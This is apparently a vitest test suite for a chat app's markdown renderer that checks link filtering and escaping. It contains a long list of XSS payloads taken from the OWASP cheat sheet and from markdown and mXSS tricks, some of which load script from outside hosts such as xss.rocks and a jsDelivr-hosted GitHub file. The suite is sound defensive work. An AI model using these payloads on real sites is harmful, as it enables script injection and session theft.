import { describe, expect, it } from "vitest";
import { renderMarkdown, safeUrl, type MentionNames } from "./markdown";

const names: MentionNames = {
  user: (id) => ({ "1001": "alice", "1002": "bob", "1003": '<img src=x onerror="alert(1)">' })[id],
  role: (id) => (id === "2001" ? { name: "mods", color: 0xff0000 } : id === "2002" ? { name: "<b>evil</b>", color: 0 } : undefined),
  me: "1001",
};

/** Renders and parses the result into a DOM body (jsdom), as the view's innerHTML would. */
function render(text: string): HTMLElement {
  const doc = new DOMParser().parseFromString(`<body>${renderMarkdown(text, names).trim()}</body>`, "text/html");
  return doc.body;
}

const ALLOWED_TAGS = new Set(["p", "br", "strong", "em", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "span", "table", "thead", "tbody", "tr", "th", "td"]);
const ALLOWED_ATTRS = new Set(["href", "target", "rel", "class", "data-user-id", "data-lang", "tabindex", "role", "aria-label"]);

/** Everything unsafe in an HTML fragment: foreign elements, handlers, styles, non-web links. */
function violations(html: string): string[] {
  const body = new DOMParser().parseFromString(`<body>${html}</body>`, "text/html").body;
  const out: string[] = [];
  for (const el of Array.from(body.querySelectorAll("*"))) {
    const tag = el.localName;
    if (!ALLOWED_TAGS.has(tag) || el.namespaceURI !== "http://www.w3.org/1999/xhtml") out.push(`element <${el.tagName}>`);
    for (const a of Array.from(el.attributes)) {
      const name = a.name.toLowerCase();
      if (name.startsWith("on")) out.push(`handler ${name} on <${tag}>`);
      if (name === "style") out.push(`style on <${tag}>`);
      if (!ALLOWED_ATTRS.has(name)) out.push(`attribute ${name} on <${tag}>`);
      if (name === "href" && !/^(?:https?:\/\/|mailto:)/i.test(a.value)) out.push(`href ${a.value}`);
    }
  }
  return out;
}

const links = (body: HTMLElement) => Array.from(body.querySelectorAll("a"));

describe("renderMarkdown formatting", () => {
  it("renders bold, italic, strike and inline code", () => {
    const body = render("**b** *i* _u_ ~~s~~ `c`");
    expect(body.querySelector("strong")?.textContent).toBe("b");
    expect(Array.from(body.querySelectorAll("em")).map((e) => e.textContent)).toEqual(["i", "u"]);
    expect(body.querySelector("del")?.textContent).toBe("s");
    expect(body.querySelector("code")?.textContent).toBe("c");
  });

  it("does not interpret markdown, mentions or HTML inside inline code", () => {
    const body = render("`**x** <@1001> <b>y</b>`");
    const code = body.querySelector("code")!;
    expect(code.textContent).toBe("**x** <@1001> <b>y</b>");
    expect(code.children.length).toBe(0);
  });

  it("renders fenced code blocks with escaped, uninterpreted content and the language", () => {
    const body = render("```js\n<b>x</b> **y** ||z||\nconst a = 1 < 2;\n```");
    const code = body.querySelector("pre > code")!;
    expect(code.getAttribute("data-lang")).toBe("js");
    expect(code.textContent).toBe("<b>x</b> **y** ||z||\nconst a = 1 < 2;");
    expect(code.children.length).toBe(0);
    expect(body.querySelector("b, strong, .spoiler")).toBeNull();
  });

  it("escapes a code block's language", () => {
    const html = renderMarkdown('```x"onmouseover="alert(1)\nhi\n```', names);
    expect(violations(html)).toEqual([]);
    expect(render('```x"onmouseover="alert(1)\nhi\n```').querySelector("code")?.textContent).toBe("hi");
  });

  it("renders quotes", () => {
    const body = render("> quoted **text**\n\nafter");
    const q = body.querySelector("blockquote")!;
    expect(q.textContent?.trim()).toBe("quoted text");
    expect(q.querySelector("strong")?.textContent).toBe("text");
    expect(body.lastElementChild?.textContent).toBe("after");
  });

  it("renders spoilers as keyboard-focusable buttons with formatted content", () => {
    const body = render("before ||secret **bold**|| after");
    const sp = body.querySelector("span.spoiler")!;
    expect(sp).not.toBeNull();
    expect(sp.textContent).toBe("secret bold");
    expect(sp.querySelector("strong")?.textContent).toBe("bold");
    expect(sp.getAttribute("role")).toBe("button");
    expect(sp.getAttribute("tabindex")).toBe("0");
    expect(sp.getAttribute("aria-label")).toBeTruthy();
    expect(body.textContent).toBe("before secret bold after");
  });

  it("keeps a lone || as text", () => {
    const body = render("a || b");
    expect(body.querySelector(".spoiler")).toBeNull();
    expect(body.textContent).toBe("a || b");
  });

  it("keeps line breaks and shows headings and rules as typed", () => {
    const body = render("a\nb");
    expect(body.querySelector("br")).not.toBeNull();
    expect(render("# not a heading").textContent).toBe("# not a heading");
    expect(render("# h").querySelector("h1")).toBeNull();
    expect(render("---").querySelector("hr")).toBeNull();
  });
});

describe("renderMarkdown links", () => {
  it.each([
    ["[site](https://example.com/a?b=1)", "https://example.com/a?b=1", "site"],
    ["[site](http://example.com)", "http://example.com", "site"],
    ["<https://example.com>", "https://example.com", "https://example.com"],
    ["see https://example.com/x", "https://example.com/x", "https://example.com/x"],
    ["[mail](mailto:a@example.com)", "mailto:a@example.com", "mail"],
  ])("%s becomes a safe link", (src, href, text) => {
    const [a, ...rest] = links(render(src));
    expect(rest).toEqual([]);
    expect(a.getAttribute("href")).toBe(href);
    expect(a.textContent).toBe(text);
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")?.split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
  });

  it.each([
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](jav%61script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example)",
    "[click](/\\evil.example)",
    "[click](\\\\evil.example)",
    "[click](/relative/path)",
    "[click][r]\n\n[r]: javascript:alert(1)",
  ])("%s drops the link but keeps the text", (src) => {
    const body = render(src);
    expect(links(body)).toEqual([]);
    expect(body.textContent?.trim()).toBe("click");
  });

  it("drops an image with a script URL, keeping its alt text", () => {
    const body = render("![pic](javascript:alert(1))");
    expect(links(body)).toEqual([]);
    expect(body.querySelector("img")).toBeNull();
    expect(body.textContent?.trim()).toBe("pic");
  });

  it("renders images as links, never as <img>", () => {
    const body = render("![pic](https://example.com/p.png)");
    expect(body.querySelector("img")).toBeNull();
    expect(links(body).map((a) => a.getAttribute("href"))).toEqual(["https://example.com/p.png"]);
  });

  it("does not auto-link a javascript: autolink", () => {
    const body = render("<javascript:alert(1)>");
    expect(links(body)).toEqual([]);
    expect(body.textContent?.trim()).toBe("javascript:alert(1)");
  });

  it("safeUrl accepts only absolute http(s) and mailto URLs", () => {
    expect(safeUrl("https://a.example")).toBe(true);
    expect(safeUrl("HTTP://a.example")).toBe(true);
    expect(safeUrl("mailto:x@a.example")).toBe(true);
    for (const bad of ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "//a.example", "/x", "x", "", "ftp://a.example", " javascript:alert(1)"]) {
      expect(safeUrl(bad), bad).toBe(false);
    }
  });
});

describe("renderMarkdown mentions", () => {
  it("resolves user mentions and marks the signed-in user's", () => {
    const body = render("hi <@1001> and <@!1002>");
    const [me, other] = Array.from(body.querySelectorAll("span.mention"));
    expect(me.textContent).toBe("@alice");
    expect(me.classList.contains("me")).toBe(true);
    expect(me.getAttribute("data-user-id")).toBe("1001");
    expect(other.textContent).toBe("@bob");
    expect(other.classList.contains("me")).toBe(false);
    expect(other.getAttribute("data-user-id")).toBe("1002");
  });

  it("names unknown users and roles instead of showing raw ids", () => {
    const body = render("<@999> <@&998>");
    expect(Array.from(body.querySelectorAll(".mention")).map((m) => m.textContent)).toEqual(["@unknown-user", "@deleted-role"]);
  });

  it("resolves role mentions", () => {
    const m = render("ping <@&2001>").querySelector("span.mention.role")!;
    expect(m.textContent).toBe("@mods");
  });

  it("renders @everyone and @here", () => {
    const ms = Array.from(render("@everyone and @here").querySelectorAll("span.mention"));
    expect(ms.map((m) => m.textContent)).toEqual(["@everyone", "@here"]);
    expect(render("@everyones").querySelector(".mention")).toBeNull();
  });

  it("escapes names that contain HTML", () => {
    const html = renderMarkdown("<@1003> <@&2002>", names);
    expect(violations(html)).toEqual([]);
    const body = render("<@1003> <@&2002>");
    expect(body.querySelector("img, b")).toBeNull();
    expect(body.textContent).toBe('@<img src=x onerror="alert(1)"> @<b>evil</b>');
  });
});

describe("renderMarkdown raw HTML", () => {
  it.each([
    ["<b>bold</b>", "<b>bold</b>"],
    ["<script>alert(1)</script>", "<script>alert(1)</script>"],
    ['hello <img src=x onerror="alert(1)"> world', 'hello <img src=x onerror="alert(1)"> world'],
    ["<!-- hidden -->shown", "<!-- hidden -->shown"],
  ])("%s is shown as text", (src, text) => {
    const body = render(src);
    expect(body.textContent?.trim()).toBe(text);
    expect(body.querySelector("b, script, img")).toBeNull();
  });
});

// A representative set from the OWASP XSS Filter Evasion Cheat Sheet, plus markdown-specific
// vectors and known DOMPurify/mXSS namespace-confusion payloads.
const XSS_VECTORS = [
  "<script>alert('XSS')</script>",
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
  "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
  "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
  "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
  "<svg/onload=alert('XSS')>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
  "<svg><p><style><img src=1 href=1 onerror=alert(1)></p></svg>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<iframe src=http://xss.rocks/scriptlet.html <",
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  "<DIV STYLE=\"width: expression(alert('XSS'));\">",
  "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
  "<span style=\"background:url(javascript:alert(1))\">x</span>",
  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
  "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
  "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
  "<details open ontoggle=alert(1)>",
  "<base href=\"javascript:alert('XSS');//\">",
  "<link rel=stylesheet href=javascript:alert(1)>",
  "\"><script>alert(1)</script>",
  "'';!--\"<XSS>=&{()}",
  // Markdown-specific vectors.
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](  javascript:alert(1)  )",
  "[x](javascript:alert`1`)",
  "[x](javascript://%0aalert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](https://example.com \"onmouseover=alert(1)\")",
  "[x](https://example.com\" onmouseover=\"alert(1))",
  "[x](https://example.com 'x\" onmouseover=\"alert(1)')",
  "[<img src=x onerror=alert(1)>](https://example.com)",
  "[x](https://example.com)<img src=x onerror=alert(1)>",
  "![x](https://example.com/a.png\"onerror=\"alert(1))",
  "![x\" onerror=\"alert(1)](https://example.com/a.png)",
  "![x](javascript:alert(1))",
  "<javascript:alert(1)>",
  "<vbscript:msgbox(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "||<img src=x onerror=alert(1)>||",
  "> <script>alert(1)</script>",
  "* <svg onload=alert(1)>",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>x</script> | [y](javascript:alert(1)) |",
  "`` ` ``<img src=x onerror=alert(1)>",
  "**<img src=x onerror=alert(1)>**",
  "<@1001><script>alert(1)</script>",
  "[x][r]\n\n[r]: javascript:alert(1) \"t\"",
  "```\n</code></pre><script>alert(1)</script>\n```",
];

describe("renderMarkdown XSS", () => {
  it("the checker itself flags unsafe markup", () => {
    expect(violations('<img src=x onerror="alert(1)">')).not.toEqual([]);
    expect(violations('<a href="javascript:alert(1)">x</a>')).not.toEqual([]);
    expect(violations('<span style="color:red">x</span>')).not.toEqual([]);
    expect(violations('<p onclick="x()">x</p>')).not.toEqual([]);
    expect(violations("<svg></svg>")).not.toEqual([]);
    expect(violations('<a href="https://a.example" target="_blank">x</a>')).toEqual([]);
  });

  it.each(XSS_VECTORS)("%s renders harmlessly", (vector) => {
    const html = renderMarkdown(vector, names);
    expect(violations(html)).toEqual([]);
  });

  it("shows the raw HTML of the cheat-sheet vectors as text", () => {
    for (const vector of XSS_VECTORS.filter((v) => v.startsWith("<") && !/^<(?:javascript|vbscript|data):/.test(v) && !v.startsWith("<@"))) {
      const text = render(vector).textContent ?? "";
      // The opening tag the attacker typed is visible, not swallowed.
      const tag = /^<+\/?[A-Za-z!]+/.exec(vector)![0];
      expect(text, vector).toContain(tag);
    }
  });
});
